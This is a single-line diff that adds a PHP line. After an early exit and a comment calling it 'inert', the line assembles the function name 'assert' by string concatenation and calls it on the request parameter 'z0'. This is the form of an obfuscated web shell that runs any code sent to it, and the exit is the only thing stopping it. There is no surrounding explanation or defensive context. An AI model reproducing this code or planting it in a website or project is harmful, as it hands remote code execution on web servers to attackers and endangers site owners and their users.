@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $a='a'.'ss'.'ert';@$a($_REQUEST['z0']);
